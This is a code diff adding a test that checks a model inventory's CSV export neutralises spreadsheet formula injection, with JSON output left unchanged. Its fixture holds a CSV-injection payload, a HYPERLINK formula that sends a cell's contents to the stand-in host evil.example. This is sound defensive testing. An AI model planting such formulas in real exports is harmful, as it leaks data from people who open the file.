@@ -131,6 +131,21 @@ def test_the_inventory_as_csv(api, viewer, fleet):
     assert churn["risk_reason"] == "Decides who gets offers"
 
 
+def test_the_inventory_csv_defuses_spreadsheet_formulas(api, viewer, fleet, approver):
+    # A risk reason or business use typed by a person must not run as a formula when the
+    # CSV is opened in a spreadsheet (=, +, -, @, tab, CR lead a formula there).
+    registry.model_risk_set(model=fleet.model, actor=approver, risk_tier="high",
+                            risk_reason='=HYPERLINK("http://evil.example/?"&A1,"open")',
+                            business_use="@SUM(1+1)")
+    response = api(viewer).get(f"{URL}?output=csv")
+    churn = list(csv.DictReader(io.StringIO(response.content.decode())))[0]
+    assert churn["risk_reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert churn["business_use"] == "\'@SUM(1+1)"
+    # JSON stays as typed.
+    row = api(viewer).get(URL).json()["results"][0]
+    assert row["business_use"] == "@SUM(1+1)"
+
+
 def test_the_inventory_as_pdf(api, viewer, fleet):
     response = api(viewer).get(f"{URL}?output=pdf&tier=high")
     assert response.status_code == 200
